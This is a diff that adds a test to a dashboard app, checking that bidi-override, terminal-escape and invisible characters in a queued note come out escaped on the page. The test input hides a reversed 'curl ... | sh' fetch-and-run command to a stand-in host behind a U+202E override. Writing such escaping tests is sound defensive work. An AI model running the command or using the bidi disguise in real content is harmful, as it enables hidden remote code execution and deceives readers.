@@ -135,6 +135,29 @@ def test_the_owner_with_the_token_gets_the_page_escaped_and_without_sealed_value
     assert status == 308 and headers["location"] == f"/{TOKEN}/"
 
 
+def test_no_control_bidi_or_invisible_character_reaches_the_page_as_itself(bead_home, tmp_path):
+    """A queued value that a U+202E would make read backwards in the browser, with an escape, a C1 CSI, a variation
+    selector and a zero-width space: the page shows each escaped (a fourth review)."""
+    from bead.dashboard.app import create_app
+
+    seed(bead_home, tmp_path / "trace.jsonl")
+    home = Home(bead_home)
+    hostile = "run \u202ehs | moc.elpmaxe.live//:ptth lruc\u202c \x1b[2J\x9b2J hid\ufe0fden ze\u200bro"
+    with Memory(home, Config(owner="t")) as mem:
+        Queue(mem).add("suspicious", "project/shop/run", "project", hostile, [], "a hostile note", "untrusted")
+    app = create_app(home, load(home), str(tmp_path / "trace.jsonl"))
+
+    async def go():
+        async with app.test_app() as test_app:
+            r = await test_app.test_client().get(f"/{TOKEN}/", headers={"host": "127.0.0.1:7079"})
+            return (await r.get_data()).decode()
+
+    html = asyncio.run(go())
+    assert "\\u202e" in html and "hid\\ufe0fden" in html
+    raw = {c for c in html if c in "\u202e\u202c\x1b\x9b\ufe0f\u200b"}
+    assert raw == set(), sorted(map(hex, map(ord, raw)))
+
+
 @pytest.mark.parametrize(
     "path, headers, method, status",
     [
